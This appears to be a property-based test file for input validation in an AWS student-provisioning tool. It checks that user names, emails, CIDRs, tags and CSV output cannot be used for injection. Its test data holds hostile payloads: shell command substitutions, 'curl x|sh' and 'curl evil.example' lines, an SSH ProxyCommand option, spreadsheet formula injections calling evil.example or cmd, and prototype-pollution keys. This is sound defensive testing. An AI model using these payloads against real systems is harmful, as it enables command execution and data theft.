/**
 * Hostile provisioning input (issue #8): user names, emails, CIDRs and tag keys/values, from a handler event,
 * a CLI flag or a roster CSV. Every input is either refused with an InputError naming its field, or accepted
 * only in a form that cannot break out of an IAM ARN, an SSM path, a resource name, an SNS filter policy, a
 * CSV cell of the results file or a shell line of the connection instructions. test/unit/roster.test.ts
 * has the everyday cases; this file has the attacks and the properties.
 *
 * PROPERTY_RUNS sets the number of cases per property (default 500 here).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ownerFilterPolicy } from '../../src/aws/provisioning/sns-subscriptions.js';
import { InputError, PolicyError } from '../../src/core/errors.js';
import { renderHandout, signInUrl } from '../../src/core/provisioning/handout.js';
import { NAMES, parsePolicy, TAGS } from '../../src/core/policy.js';
import {
  isWorldOpen,
  keyParameterName,
  parseCidr,
  parseEmail,
  parseRoster,
  parseUserName,
  parseUserRequest,
  passwordParameterName,
  RESULT_COLUMNS,
  resourceName,
  toCsv,
  USER_NAME,
} from '../../src/core/provisioning/roster.js';
import { parseProvisionEvent } from '../../src/core/provisioning/event.js';

const RUNS = Math.max(1, Number(process.env.PROPERTY_RUNS ?? 500));
const ACCOUNT = '123456789012';

/** What an accepted value may contain, per field. */
const SAFE = {
  user: /^[A-Za-z][A-Za-z0-9._-]{0,63}$/,
  email: /^[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+$/,
  cidr: /^(?:(?:\d{1,3}\.){3}\d{1,3}\/\d{1,2}|[0-9a-f:.]+\/\d{1,3})$/,
};
/** AWS tag values: letters, digits, spaces and _ . : / = + - @, at most 256 (EC2, IAM and SSM agree). */
const AWS_TAG_VALUE = /^[\p{L}\p{Z}\p{N}_.:/=+\-@]{0,256}$/u;
/** Characters a spreadsheet runs a cell as a formula for, when they start it. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** Characters that mean something to a POSIX shell (outside and inside single quotes). */
const SHELL_SPECIAL = /[\s'"`$\\;&|<>(){}[\]*?~!#%^]/;

/** Throws unless `act` throws an InputError whose field is `field` and whose message starts with it. */
function expectInputError(act: () => unknown, field: string): InputError {
  let caught: unknown;
  try {
    act();
  } catch (err) {
    caught = err;
  }
  expect(caught).toBeInstanceOf(InputError);
  const error = caught as InputError;
  expect(error.field).toBe(field);
  expect(error.message.startsWith(`${field}: `)).toBe(true);
  // The message quotes the input without control characters, so it cannot forge log lines or terminal output.
  expect(error.message).not.toMatch(/\p{Cc}/u);
  return error;
}

/** An RFC 4180 reader (independent of the roster's), for reading back what toCsv wrote. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') {
      expect(cell).toBe(''); // a quote only ever opens a cell
      quoted = true;
    } else if (ch === ',') {
      cells.push(cell);
      cell = '';
    } else if (ch === '\n') {
      cells.push(cell);
      records.push(cells);
      cells = [];
      cell = '';
    } else cell += ch;
  }
  expect(quoted).toBe(false);
  expect(cell).toBe('');
  expect(cells).toEqual([]);
  return records;
}

/**
 * Where a spreadsheet may start a cell when it splits lines on `separator` (Excel where the list separator is
 * `;`, an import dialog set to tab) and, as Excel does, honours a quote only at the start of a field: the worst
 * case is every piece after a separator or line break, leading quotes dropped.
 */
function cellStartsSplitOn(text: string, separator: string): string[] {
  return text.split(new RegExp(`[${separator}\\r\\n]`)).map((piece) => piece.replace(/^"+/, ''));
}

/** Asserts that a user name the parser accepted is harmless everywhere it is used. */
function expectHarmlessUser(user: string) {
  expect(user).toMatch(SAFE.user);
  expect(user).toMatch(USER_NAME);
  expect(user).not.toMatch(SHELL_SPECIAL);
  // IAM ARN: user/<path>/<name>, six colon-separated parts, no wildcard or policy variable.
  const arn = `arn:aws:iam::${ACCOUNT}:user${NAMES.iamPath}${user}`;
  expect(arn.split(':')).toHaveLength(6);
  expect(arn).not.toMatch(/[*?$]/);
  // SSM names: one level under the prefix, characters SSM allows, no climbing.
  for (const name of [keyParameterName(user), passwordParameterName(user)]) {
    expect(name).toMatch(/^\/cost-watchdog\/(keys|passwords)\/[A-Za-z0-9._-]+$/);
    expect(name.split('/')).toHaveLength(4);
  }
  // EC2 names: launch template names are at most 128 of [a-zA-Z0-9().\-/_]; no security group may start sg-.
  const resource = resourceName(user);
  expect(resource).toMatch(/^[a-zA-Z0-9().\-/_]{3,128}$/);
  expect(resource.startsWith('sg-')).toBe(false);
  // The Owner tag value is the user name: valid as an AWS tag value.
  expect(user).toMatch(AWS_TAG_VALUE);
  // SNS filter policy: JSON that reads back as exactly this owner.
  expect(JSON.parse(ownerFilterPolicy(user))).toEqual({ owner: [user] });
  // Results CSV: a plain cell that no spreadsheet runs.
  expect(toCsv(['user'], [[user]])).toBe(`user\n${user}\n`);
  expect(user).not.toMatch(FORMULA_START);
}

/** Every string that can come from any source: any Unicode, and mixes of the characters attacks use. */
const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 80 }),
  fc
    .array(
      fc.oneof(
        fc.constantFrom(
          'alice',
          'a',
          '1',
          '.',
          '..',
          '/',
          '\\',
          ',',
          ';',
          '"',
          "'",
          '`',
          '$(',
          ')',
          '${aws:username}',
          '=',
          '+',
          '-',
          '@',
          '*',
          '?',
          ':',
          '%',
          '\n',
          '\r',
          '\t',
          '\u0000',
          ' ',
          '\u200b',
          '\u202e',
          'а',
          '0.0.0.0/0',
          '::/0',
          '/32',
          '10.0.0.0',
          '2001:db8::',
          'example.edu',
          '<',
          '>',
          '|',
          '&',
          '#',
        ),
        fc.string({ maxLength: 4 }),
      ),
      { maxLength: 12 },
    )
    .map((parts) => parts.join('')),
);

describe('hostile user names', () => {
  it.each([
    ['a command substitution', '$(id)'],
    ['backticks', 'alice`id`'],
    ['a command separator', 'alice;id'],
    ['a pipe', 'alice|id'],
    ['a background operator', 'alice&'],
    ['a redirection', 'alice>~/.ssh/authorized_keys'],
    ['an option for ssh or aws', '-oProxyCommand=id'],
    ['a long option', '--help'],
    ['a formula with +', '+SUM(1,1)'],
    ['a formula with @', '@SUM(1)'],
    ['a formula with -', '-1+1'],
    ['a NUL byte', 'alice\u0000'],
    ['a carriage return', 'alice\rbob'],
    ['a tab', 'alice\tbob'],
    ['a right-to-left override', 'alice\u202efdp.exe'],
    ['a zero-width space', 'ali\u200bce'],
    ['a Cyrillic a (homoglyph)', 'аlice'],
    ['an IAM wildcard', 'alice*'],
    ['an IAM single-character wildcard', 'alic?'],
    ['an ARN separator', 'alice:root'],
    ['a double quote', 'alice"'],
    ['a backslash', 'alice\\'],
    ['a URL-encoded dot-dot', '%2e%2e'],
    ['an SSM path climb', '../passwords/bob'],
    ['a policy variable', '${aws:PrincipalTag/role}'],
    ['a JSON break-out', 'alice"],"owner":["bob'],
    ['an HTML tag', '<b>alice</b>'],
    ['10 kB of letters', 'a'.repeat(10_240)],
  ])('refuses %s, naming the field', (_what, name) => {
    expectInputError(() => parseUserName(name), 'user');
  });

  it.each<[string, unknown]>([
    ['a number', 42],
    ['a list', ['alice']],
    ['an object that pretends to be a string', { toString: () => 'alice' }],
    ['null', null],
    ['true', true],
  ])('refuses %s as a user name', (_what, value) => {
    expectInputError(() => parseUserName(value), 'user');
  });

  it('accepts a name with surrounding spaces only as the trimmed name', () => {
    expect(parseUserName('  alice  ')).toBe('alice');
  });
});

describe('hostile emails', () => {
  it.each([
    ['a second recipient after a comma', 'alice@example.edu,bob@example.edu'],
    ['a second recipient after a semicolon', 'alice@example.edu;bob@example.edu'],
    ['a header injection', 'alice@example.edu\r\nBcc: all@example.edu'],
    ['a NUL byte', 'alice@example.edu\u0000'],
    ['a quoted local part', '"alice"@example.edu'],
    ['an address literal', 'alice@[127.0.0.1]'],
    ['a single-label domain', 'alice@localhost'],
    ['an underscore in the domain', 'alice@exa_mple.edu'],
    ['a single quote', "o'brien@example.edu"],
    ['a command substitution', '$(id)@example.edu'],
    ['a formula', '=HYPERLINK("x")@example.edu'],
    ['a JSON break-out', 'alice@example.edu","owner":"bob'],
    ['a display name', 'Alice <alice@example.edu>'],
    ['a 300-character address', `${'a'.repeat(290)}@example.edu`],
    ['an internationalised domain', 'alice@exämple.edu'],
  ])('refuses %s, naming the field', (_what, email) => {
    expectInputError(() => parseEmail(email), 'email');
  });
});

describe('hostile CIDRs', () => {
  it.each([
    ['a second range after a space', '10.0.0.0/8 0.0.0.0/0'],
    ['a second range after a semicolon', '10.0.0.0/8;0.0.0.0/0'],
    ['a second range after a newline', '10.0.0.0/8\n0.0.0.0/0'],
    ['the world written /00', '0.0.0.0/00'],
    ['the world written /000', '0.0.0.0/000'],
    ['the IPv6 world written ::0/0', '::0/0'],
    ['the IPv6 world written in full', '0:0:0:0:0:0:0:0/0'],
    ['the IPv4-mapped world', '::ffff:0.0.0.0/0'],
    ['a prefix with a plus sign', '203.0.113.7/+32'],
    ['a negative prefix', '203.0.113.7/-1'],
    ['a prefix in exponent notation', '203.0.113.7/3e1'],
    ['a prefix in hex', '203.0.113.7/0x20'],
    ['a prefix in Arabic-Indic digits', '203.0.113.7/٣٢'],
    ['full-width digits', '２０３.０.１１３.７/32'],
    ['a hex octet', '0x7f.0.0.1/32'],
    ['a short-form address', '127.1/32'],
    ['a leading-zero octet (octal in some parsers)', '010.0.0.1/32'],
    ['an IPv6 zone id', 'fe80::1%eth0/128'],
    ['a command substitution', '$(curl evil.example)/32'],
    ['a policy variable', '${aws:SourceIp}'],
    ['a trailing NUL byte', '203.0.113.7/32\u0000'],
    ['an empty prefix', '203.0.113.7/'],
  ])('refuses %s, naming the field', (_what, cidr) => {
    expectInputError(() => parseCidr(cidr), 'cidr');
  });

  it.each<[string, unknown]>([
    ['a number', 3_405_803_783],
    ['a list', ['203.0.113.7/32']],
    ['null', null],
  ])('refuses %s as a CIDR', (_what, value) => {
    expectInputError(() => parseCidr(value), 'cidr');
  });
});

describe('hostile provisioning events', () => {
  it.each<[string, string, string]>([
    [
      'a __proto__ key on a user',
      '{"user":"a","email":"a@b.cd","cidr":"10.0.0.0/8","__proto__":{"admin":1}}',
      '__proto__',
    ],
    [
      'a constructor key on a user',
      '{"user":"a","email":"a@b.cd","cidr":"10.0.0.0/8","constructor":{}}',
      'constructor',
    ],
    [
      'an Owner key that tries to set the tag',
      '{"user":"a","email":"a@b.cd","cidr":"10.0.0.0/8","Owner":"bob"}',
      'Owner',
    ],
    [
      'a setup that is a shell line',
      '{"user":"a","email":"a@b.cd","cidr":"10.0.0.0/8","setup":"gpu; curl x|sh"}',
      'setup',
    ],
    [
      'a type with a shell line',
      '{"user":"a","email":"a@b.cd","cidr":"10.0.0.0/8","type":"t3.micro;id"}',
      'type',
    ],
    [
      'a port that is a string of code',
      '{"user":"a","email":"a@b.cd","cidr":"10.0.0.0/8","notebookPort":"8888;id"}',
      'notebookPort',
    ],
    [
      'a region that is a host name',
      '{"user":"a","email":"a@b.cd","cidr":"10.0.0.0/8","region":"evil.example.com"}',
      'region',
    ],
    [
      'allowAnywhere as a string',
      '{"user":"a","email":"a@b.cd","cidr":"0.0.0.0/0","allowAnywhere":"true"}',
      'allowAnywhere',
    ],
  ])('refuses %s in a user entry, naming the field', (_what, json, field) => {
    expectInputError(() => parseUserRequest(JSON.parse(json)), field);
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
  });

  it('fails only the bad entry of an event, and names it', () => {
    const parsed = parseProvisionEvent(
      JSON.parse(
        '{"users":[{"user":"alice","email":"alice@example.edu","cidr":"203.0.113.7"},{"user":"bob;id","email":"b@example.edu","cidr":"10.0.0.0/8"}]}',
      ),
    );

    expect(parsed.rows.map((r) => r.ok)).toEqual([true, false]);
    expect(parsed.rows[1]).toMatchObject({ ok: false, error: expect.stringMatching(/^users\[1\]: user: /) });
  });

  it.each<[string, Record<string, unknown>, string]>([
    ['a user name with a shell line', { action: 'deprovision', user: 'alice;id' }, 'user'],
    [
      'a region that is a host name',
      { action: 'deprovision', user: 'alice', region: 'evil.example.com' },
      'region',
    ],
    ['a region with a path', { action: 'deprovision', user: 'alice', region: 'us-east-1/../x' }, 'region'],
    ['a region that is a number', { action: 'deprovision', user: 'alice', region: 1 }, 'region'],
    ['an unknown action', { action: 'x'.repeat(10_000) }, 'action'],
  ])('refuses a deprovision event with %s, naming the field', (_what, event, field) => {
    const error = expectInputError(() => parseProvisionEvent(event), field);
    expect(error.message.length).toBeLessThan(300);
  });
});

describe('tag keys from the policy', () => {
  it.each([
    ['a single quote (breaks the shell line of the instructions)', "Owner'; touch /tmp/pwned; echo '"],
    ['a comma (breaks the --filters argument)', 'Owner,Values=bob'],
    ['a newline', 'Owner\nx'],
    ['an IAM wildcard (widens the guardrail condition)', 'Own*'],
    ['a policy variable', '${aws:username}'],
    ['the reserved aws: prefix', 'aws:createdBy'],
  ])('refuses an owner tag key with %s, naming the field', (_what, key) => {
    let caught: unknown;
    try {
      parsePolicy({ tags: { owner: key } });
    } catch (err) {
      caught = err;
    }
    expect(caught).toBeInstanceOf(PolicyError);
    expect((caught as PolicyError).issues.join('\n')).toMatch(/^tags\.owner: /);
  });

  it.each(['Owner', 'owner', 'Student Name', 'course:owner', 'team/owner', 'a=b+c@d-e_f.g'])(
    'accepts the owner tag key %j (everything AWS allows in a tag key)',
    (key) => {
      expect(parsePolicy({ tags: { owner: key } }).tags.owner).toBe(key);
    },
  );

  it('keeps the default keys valid', () => {
    expect(parsePolicy({}).tags).toEqual({ exempt: TAGS.exempt, owner: TAGS.owner });
  });
});

describe('what an accepted value can reach', () => {
  function instructionsFor(user: string): string {
    return renderHandout({
      user,
      region: 'eu-west-1',
      ownerTag: TAGS.owner,
      instanceType: 't3.micro',
      access: { kind: 'iam', consolePassword: true, accessKey: true },
      signInUrl: signInUrl(ACCOUNT),
      alerts: { email: 'student@example.edu', state: 'pending' },
      policy: parsePolicy({}),
      notebookPort: 8888,
      setup: 'datascience',
    });
  }

  it('never accepts a user name that could break an ARN, an SSM path, a name, a tag, a filter, a CSV cell or a shell line', () => {
    // A stand-in name that appears nowhere else in the instructions: where it is, the user name goes.
    const template = instructionsFor('Qqq');
    expect(template.split('Qqq').length).toBeGreaterThan(5);
    fc.assert(
      fc.property(hostileText, (text) => {
        let user: string;
        try {
          user = parseUserName(text);
        } catch (err) {
          expect(err).toBeInstanceOf(InputError);
          expect((err as InputError).field).toBe('user');
          expect((err as InputError).message).not.toMatch(/\p{Cc}/u);
          return;
        }
        expectHarmlessUser(user);
        // The instructions keep their shape: the same text as for the stand-in, with only the name changed.
        expect(instructionsFor(user)).toBe(template.split('Qqq').join(user));
      }),
      { numRuns: RUNS },
    );
  });

  it('never accepts an email with anything but address characters, and one @', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          hostileText,
          fc.emailAddress(),
          hostileText.map((t) => `${t}@example.edu`),
        ),
        (text) => {
          let email: string;
          try {
            email = parseEmail(text);
          } catch (err) {
            expect(err).toBeInstanceOf(InputError);
            expect((err as InputError).field).toBe('email');
            return;
          }
          expect(email).toMatch(SAFE.email);
          expect(email.split('@')).toHaveLength(2);
          expect(email.length).toBeLessThanOrEqual(254);
          expect(JSON.parse(JSON.stringify({ Endpoint: email }))).toEqual({ Endpoint: email });
          // Should an email ever reach a CSV cell, a leading + or - is defused.
          expect(readCsv(toCsv(['email'], [[email]]))[1]?.[0]).not.toMatch(FORMULA_START);
        },
      ),
      { numRuns: RUNS },
    );
  });

  it('never accepts a CIDR other than one canonical range, and never the world unless asked', () => {
    const cidrish = fc.oneof(
      hostileText,
      fc.ipV4().map((ip) => ip),
      fc.tuple(fc.ipV4(), fc.nat({ max: 40 })).map(([ip, p]) => `${ip}/${p}`),
      fc.tuple(fc.ipV6(), fc.nat({ max: 140 })).map(([ip, p]) => `${ip}/${p}`),
      fc.tuple(fc.ipV4(), hostileText).map(([ip, t]) => `${ip}/32${t}`),
    );
    fc.assert(
      fc.property(cidrish, fc.boolean(), (text, allowAnywhere) => {
        let cidr: string;
        try {
          cidr = parseCidr(text, allowAnywhere);
        } catch (err) {
          expect(err).toBeInstanceOf(InputError);
          expect((err as InputError).field).toBe('cidr');
          expect((err as InputError).message).not.toMatch(/\p{Cc}/u);
          return;
        }
        expect(cidr).toMatch(SAFE.cidr);
        expect(cidr).not.toMatch(SHELL_SPECIAL);
        expect(parseCidr(cidr, allowAnywhere)).toBe(cidr);
        if (!allowAnywhere) expect(isWorldOpen(cidr)).toBe(false);
      }),
      { numRuns: RUNS },
    );
  });

  it('turns any user entry into either an InputError naming a known field or a request of harmless values', () => {
    const entry = fc.dictionary(
      fc.oneof(
        fc.constantFrom('user', 'email', 'cidr', 'type', 'notebookPort', 'region', 'setup', 'allowAnywhere'),
        fc.constantFrom('__proto__', 'constructor', 'Owner', 'admin'),
        fc.string({ maxLength: 8 }),
      ),
      fc.oneof(hostileText, fc.jsonValue({ maxDepth: 2 })),
      { maxKeys: 9 },
    );
    const withValidCore = fc
      .tuple(entry, fc.boolean())
      .map(([e, valid]) =>
        valid ? { user: 'alice', email: 'a@example.edu', cidr: '203.0.113.7', ...e } : e,
      );
    fc.assert(
      fc.property(withValidCore, (input) => {
        const parsed = JSON.parse(JSON.stringify(input)) as unknown; // as the event arrives: own keys only
        let request: ReturnType<typeof parseUserRequest>;
        try {
          request = parseUserRequest(parsed);
        } catch (err) {
          expect(err).toBeInstanceOf(InputError);
          expect((err as InputError).message).not.toMatch(/\p{Cc}/u);
          return;
        }
        expectHarmlessUser(request.user);
        expect(request.email).toMatch(SAFE.email);
        expect(request.cidr).toMatch(SAFE.cidr);
        if (request.instanceType !== undefined)
          expect(request.instanceType).toMatch(/^[a-z][a-z0-9-]*\.[a-z0-9]+$/);
        if (request.region !== undefined) expect(request.region).toMatch(/^[a-z]{2}(-[a-z]+)+-\d$/);
        if (request.notebookPort !== undefined) expect(Number.isInteger(request.notebookPort)).toBe(true);
        if (!request.allowAnywhere) expect(isWorldOpen(request.cidr)).toBe(false);
      }),
      { numRuns: RUNS },
    );
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
  });
});

describe('the results CSV', () => {
  const hostileRoster = [
    'user,email,cidr',
    '=HYPERLINK("http://evil.example/?"&A1;"click"),a@example.edu,10.0.0.0/8',
    "+cmd|' /C calc'!A0,a@example.edu,10.0.0.0/8",
    '-2+3,a@example.edu,10.0.0.0/8',
    '@SUM(A1:A9),a@example.edu,10.0.0.0/8',
    'a;=1+1,a@example.edu,10.0.0.0/8',
    '"\t=cmd",a@example.edu,10.0.0.0/8',
    '"line\n=1+1",a@example.edu,10.0.0.0/8',
    '"q""uote,comma",a@example.edu,10.0.0.0/8',
    'alice,"=1+1@example.edu",10.0.0.0/8',
    'bob,bob@example.edu,"10.0.0.0/8;=1+1"',
    'carol,carol@example.edu,203.0.113.7',
  ].join('\n');

  /** The results file exactly as `provision --roster` writes it, for rows that failed validation or passed. */
  function resultsFor(roster: string): string {
    return toCsv(
      RESULT_COLUMNS,
      parseRoster(roster).map((row) =>
        row.ok
          ? [row.user, 'created', keyParameterName(row.user), 'lt-0123456789abcdef0', '']
          : [row.user, 'failed', '', '', row.error],
      ),
    );
  }

  it('reads back cell for cell, and no cell of a hostile roster starts a formula in any separator locale', () => {
    // Act
    const csv = resultsFor(hostileRoster);

    // Assess
    const records = readCsv(csv);
    expect(records).toHaveLength(12);
    expect(records.every((r) => r.length === RESULT_COLUMNS.length)).toBe(true);
    expect(records.slice(1).map((r) => r[1])).toEqual([...Array(10).fill('failed'), 'created']);
    for (const separator of [',', ';', '\t']) {
      const cells = separator === ',' ? records.flat() : cellStartsSplitOn(csv, separator);
      expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    }
  });

  it('writes any cells so that they read back unchanged (or defused) and no cell starts a formula', () => {
    const cell = fc.oneof(
      hostileText,
      fc.constantFrom('', '=1+1', '+1', '-1', '@x', '\t=1', '\r=1', 'a;=1', 'a\t=1'),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 5, maxLength: 5 }), { maxLength: 6 }), (rows) => {
        const csv = toCsv(RESULT_COLUMNS, rows);

        const records = readCsv(csv);
        expect(records).toHaveLength(rows.length + 1);
        records.slice(1).forEach((record, i) => {
          record.forEach((read, j) => {
            const written = rows[i]?.[j] ?? '';
            // Only apostrophes are ever added, and only where a formula could start.
            expect(read.replaceAll("'", '')).toBe(written.replaceAll("'", ''));
            if (!/(^|[;\t\r\n])"*[=+\-@\t\r]/.test(written)) expect(read).toBe(written);
          });
        });
        for (const separator of [';', '\t']) {
          expect(cellStartsSplitOn(csv, separator).filter((c) => FORMULA_START.test(c))).toEqual([]);
        }
      }),
      { numRuns: RUNS },
    );
  });

  it('parses any roster text into rows that are valid or errors with a printable name, never a crash', () => {
    const rosterText = fc.oneof(
      hostileText,
      fc
        .array(fc.array(hostileText, { maxLength: 8 }), { maxLength: 6 })
        .map((rows) => rows.map((r) => r.join(',')).join('\n')),
    );
    fc.assert(
      fc.property(rosterText, (text) => {
        let rows: ReturnType<typeof parseRoster>;
        try {
          rows = parseRoster(text);
        } catch (err) {
          expect(err).toBeInstanceOf(InputError);
          expect((err as InputError).field).toBe('roster header');
          return;
        }
        for (const row of rows) {
          if (row.ok) {
            expectHarmlessUser(row.user);
          } else {
            expect(row.user).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
            // at most 80 characters (code points: an emoji is one character and is never cut in half)
            expect(Array.from(row.user).length).toBeLessThanOrEqual(80);
            expect(row.error).toMatch(/^line \d+: /);
          }
        }
      }),
      { numRuns: RUNS },
    );
  });
});
